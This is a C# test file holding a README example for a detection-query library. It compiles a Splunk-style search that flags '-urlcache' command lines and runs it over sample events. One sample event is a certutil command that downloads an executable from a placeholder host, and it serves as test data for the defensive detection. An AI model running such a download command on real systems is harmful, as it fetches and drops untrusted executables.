using ExfilQuery.Evaluation;
using ExfilQuery.Macros;

namespace ExfilQuery.Tests.Evaluation;

/// <summary>The README's example of <see cref="CompiledDetection"/>, compiled with the tests. The text between the
/// README markers below must appear verbatim in README.md (ReadmeExampleTests checks it and runs it).</summary>
internal static class ReadmeExample
{
    public static void Run(TextWriter output, string eventsPath)
    {
        // README:begin
        var macros = MacroLibrary.Load("fixtures/splunk/macros.jsonl", out _);
        var detection = CompiledDetection.Compile(
            "CommandLine=\"*-urlcache*\" | stats count values(CommandLine) as commands by host",
            new CompileOptions { Macros = macros });
        if (!detection.Ok) throw new InvalidOperationException(string.Join("\n", detection.Diagnostics));
        output.WriteLine(detection.Plan);   // streams? which fields are read? which literal skips lines?

        // Over events you hold (a list, a lazy sequence; RunAsync takes an IAsyncEnumerable<Event>):
        var events = new List<Event>
        {
            new() { ["host"] = FieldValue.String("ws1"), ["CommandLine"] = FieldValue.String("certutil -urlcache -f http://x/a.exe a.exe") },
            new() { ["host"] = FieldValue.String("ws2"), ["CommandLine"] = FieldValue.String("notepad.exe") },
        };
        EvaluationResult result = detection.Run(events);
        foreach (var row in result.Rows) output.WriteLine(row);   // host=ws1 count=1 commands=certutil -urlcache ...

        // Over a JSON Lines file, read once: only the fields the search reads are parsed, and lines that
        // cannot hold "-urlcache" are not parsed at all.
        using var stream = File.OpenRead(eventsPath);
        EvaluationResult fromFile = detection.RunJsonLines(stream, Path.GetFileName(eventsPath));
        foreach (var row in fromFile.Rows) output.WriteLine(row);
        foreach (var d in fromFile.Diagnostics) output.WriteLine(d);   // EVL0007 malformed lines, EVL0041 skipped lines
        // README:end
    }
}
